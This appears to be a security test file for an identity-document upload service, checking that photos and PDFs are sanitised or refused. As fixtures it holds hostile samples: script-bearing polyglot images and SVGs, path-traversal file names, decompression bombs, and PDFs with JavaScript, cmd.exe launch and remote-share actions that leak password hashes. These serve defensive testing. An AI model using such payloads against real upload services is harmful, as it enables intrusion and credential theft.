import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { createPdf, createPhoto, createPng, eicar, startVirusScanner } from '../support/reading/documents.ts';
import { startTestService, type TestService } from '../support/service.ts';
import { openLink } from '../support/steps/personal-links.ts';
import { reportsOf } from '../support/steps/reports.ts';
import type { Visitor } from '../support/steps/visitor.ts';

const route = 'GET /ops/accounts/{account_id}/verifications/{verification_id}/documents';

describe('An uploaded identity document', () => {
  let service: TestService;
  let scanner: Awaited<ReturnType<typeof startVirusScanner>>;
  before(async () => {
    scanner = await startVirusScanner();
    service = await startTestService({ ROLES: 'api,pages', CLAMAV_URL: scanner.url, CLAMAV_SECONDS: '0.5' });
  });
  after(async () => {
    await service.stop();
    await scanner.stop();
  });
  const reports = reportsOf(() => service);

  /** A candidate at the link of a verification, and what of the candidate's staff see. */
  async function requestDocument(): Promise<{
    upload: (content: Uint8Array<ArrayBuffer>, name?: string, type?: string) => Promise<Visitor>;
    stored: () => Promise<{ type: string; content: Buffer }[]>;
  }> {
    const { id } = await reports.create('pending');
    await reports.trigger('report.suspended', id);
    const { data } = await reports.api().call('GET /v1/reports/{id}/verifications', { params: { id } });
    const verification = data[0]!;
    const link = verification.verification_url;
    const candidate = await openLink(service, link);
    return {
      upload: async (content, name = 'passport.jpg', type = '') => {
        const form = new FormData();
        form.set('document', new File([content], name, { type }));
        await candidate.upload(link, form);
        return candidate;
      },
      stored: async () => {
        const params = { account_id: reports.account().id, verification_id: verification.id };
        const list = await reports.operations().call(route, { params });
        return list.data.map(({ content_type: type, content }) => ({
          type,
          content: Buffer.from(content, 'base64'),
        }));
      },
    };
  }

  it('does not tell where a photo was taken, or with which camera, and stands upright', async () => {
    const photo = await createPhoto(60, 40);
    assert.ok(photo.includes('PlantedCamera'));
    const { upload, stored } = await requestDocument();
    assert.match((await upload(photo)).text, /You&#39;re all set/);
    const [document] = await stored();
    assert.equal(document?.type, 'image/jpeg');
    assert.equal(document.content.includes('PlantedCamera'), false);
    const { exif, orientation, width, height } = await sharp(document.content).metadata();
    assert.deepEqual(
      { exif, orientation, width, height },
      { exif: undefined, orientation: undefined, width: 40, height: 60 },
    );
  });

  it('holds no page that a browser runs, hidden behind or inside an image', async () => {
    const script = '<script>alert(document.domain)</script>';
    const comment = Buffer.from(script);
    const length = Buffer.alloc(2);
    length.writeUInt16BE(comment.length + 2);
    const photo = await createPhoto();
    const png = createPng(30, 20);
    for (const polyglot of [
      Buffer.concat([photo, comment]),
      Buffer.concat([photo.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, photo.subarray(2)]),
      Buffer.concat([png, comment]),
    ]) {
      const { upload, stored } = await requestDocument();
      assert.equal((await upload(Buffer.from(polyglot))).status, 200);
      const [document] = await stored();
      assert.ok(document);
      assert.equal(document.content.includes('<script>'), false);
    }
  });

  it('is refused if it is anything else than a photo or a PDF, whatever it calls itself', async () => {
    const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    const pdf = await createPdf();
    const { upload, stored } = await requestDocument();
    for (const [name, content] of [
      ['SVG', Buffer.from(drawing)],
      ['page', Buffer.from(`<!doctype html>${drawing}`)],
      ['GIF', Buffer.from('GIF89a/*alert(1)*/=1;')],
      ['program', Buffer.from('MZ\x90\0')],
      ['archive before a PDF', Buffer.concat([Buffer.from('PK\x03\x04'), pdf])],
      ['page before a PDF', Buffer.concat([Buffer.from(drawing), pdf])],
      ['PostScript', Buffer.from('%!PS-Adobe-3.0\n(x) run')],
    ] as const)
      for (const [file, type] of [
        ['passport.jpg', 'image/jpeg'],
        ['passport.pdf', 'application/pdf'],
      ] as const) {
        const { status, text } = await upload(Buffer.from(content), file, type);
        assert.equal(status, 400, name);
        assert.match(text, /JPEG or PNG/, name);
      }
    assert.deepEqual(await stored(), []);
  });

  it('gets its type from its content, and its name from the service', async () => {
    const names = ['../../../etc/passwd', 'C:\\x\\y.exe', 'page.html', 'a\0b.svg', `${'x'.repeat(3000)}.php`];
    for (const name of names) {
      const { upload, stored } = await requestDocument();
      const { status } = await upload(createPng(30, 20), name, 'text/html');
      assert.equal(status, 200, name);
      assert.deepEqual(
        (await stored()).map(({ type }) => type),
        ['image/png'],
      );
    }
    for (const id of await service.container.files.list()) assert.match(id, /^[0-9a-f]{24}$/);
  });

  it('is refused if an image has more pixels than memory should hold, or cannot be decoded', async () => {
    const { upload, stored } = await requestDocument();
    const bomb = createPng(30_000, 30_000);
    assert.ok(bomb.length < 8 * 1024 * 1024);
    const photo = await createPhoto(600, 400);
    for (const [content, sentence] of [
      [bomb, /megapixels/],
      [photo.subarray(0, photo.length / 2), /couldn&#39;t open this file/],
      [Buffer.concat([photo.subarray(0, 3), Buffer.from('<html><script>')]), /couldn&#39;t open this file/],
    ] as const) {
      const { status, text } = await upload(Buffer.from(content));
      assert.equal(status, 400);
      assert.match(text, sentence);
    }
    assert.deepEqual(await stored(), []);
  });

  it('is refused if a PDF is encrypted, cannot be read, or does something when it is opened', async () => {
    const action = (entries: Record<string, unknown>) =>
      createPdf((document) => {
        const reference = document.ref({ Type: 'Action', ...entries });
        reference.end(undefined);
        (document as unknown as { _root: { data: Record<string, unknown> } })._root.data['OpenAction'] =
          reference;
      });
    const plain = await createPdf();
    const cases: [name: string, content: Buffer, sentence: RegExp][] = [
      ['password', await createPdf(undefined, { userPassword: 'secret' }), /protected with a password/],
      [
        'owner password',
        await createPdf(undefined, { ownerPassword: 'secret' }),
        /protected with a password/,
      ],
      ['script', await action({ S: 'JavaScript', JS: new String('app.alert(1)') }), /scripts/],
      ['launch', await action({ S: 'Launch', F: new String('cmd.exe') }), /scripts/],
      // A path on a server, to which Windows signs in: its owner learns the hash of the password.
      ['file elsewhere', await action({ S: 'GoToR', F: new String('//198.51.100.1/x'), D: [0] }), /scripts/],
      [
        'attachment',
        await createPdf((document) => document.file(Buffer.from('MZ'), { name: 'a.exe' })),
        /scripts/,
      ],
      [
        'escaped name',
        Buffer.from(
          plain.toString('latin1').replace('/Catalog', '/Catalog /AA<</O<</S/J#61vaScript>>>>'),
          'latin1',
        ),
        /scripts/,
      ],
      [
        'in an object stream',
        withObjectStream(plain, '9 0 <</S/JavaScript/JS(app.alert\\(1\\))>>'),
        /scripts/,
      ],
      [
        'packed in an unusual way',
        withObjectStream(plain, '9 0 <<>>', '[/ASCIIHexDecode/FlateDecode]'),
        /couldn&#39;t/,
      ],
      ['bomb', withObjectStream(plain, Buffer.alloc(100 * 1024 * 1024, ' ')), /couldn&#39;t open this file/],
      ['no PDF', Buffer.from('%PDF-1.7 a passport'), /couldn&#39;t open this file/],
      ['cut', plain.subarray(0, 500), /couldn&#39;t open this file/],
    ];
    const { upload, stored } = await requestDocument();
    for (const [name, content, sentence] of cases) {
      const { status, text } = await upload(Buffer.from(content), 'passport.pdf');
      assert.equal(status, 400, name);
      assert.match(text, sentence, name);
    }
    assert.deepEqual(await stored(), []);
    assert.match((await upload(plain, 'passport.pdf')).text, /You&#39;re all set/);
  });

  /** Adds an object stream (ISO 32000-1, 7.5.7) to a PDF, where a search for words does not find what it holds. */
  function withObjectStream(pdf: Buffer, objects: string | Buffer, filter = '/FlateDecode'): Buffer {
    const packed = deflateSync(objects);
    const head = `\n90 0 obj\n<</Type/ObjStm/N 1/First 4/Filter${filter}/Length ${packed.length}/X( obj )>>\nstream \r`;
    return Buffer.concat([pdf, Buffer.from(head), packed, Buffer.from('\nendstream\nendobj\n')]);
  }

  it('is refused if the virus scanner finds something', async () => {
    const { upload, stored } = await requestDocument();
    const infected = Buffer.concat([await createPdf(), Buffer.from(eicar)]);
    const { status, text } = await upload(Buffer.from(infected), 'passport.pdf');
    assert.equal(status, 400);
    assert.match(text, /virus scanner/);
    assert.deepEqual(await stored(), []);
  });

  it('is asked for again when the disk for files is full, and nothing of it is stored', async (test) => {
    const full = Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
    test.mock.method(service.container.files, 'write', () => Promise.reject(full));
    await expectRefusal(/can&#39;t answer right now/);
  });

  const expectRefusal = async (sentence = /Try again in a few minutes/) => {
    const { upload, stored } = await requestDocument();
    const candidate = await upload(await createPhoto());
    assert.equal(candidate.status, 503);
    assert.ok(Number(candidate.headers.get('Retry-After')) > 0);
    assert.ok(sentence.test(candidate.text));
    assert.deepEqual(await stored(), []);
  };

  it('is not stored unchecked when the virus scanner takes it and never answers', async () => {
    scanner.hang();
    await expectRefusal();
  });

  it('is not stored unchecked while the virus scanner is away', async () => {
    await scanner.stop();
    await expectRefusal();
  });
});
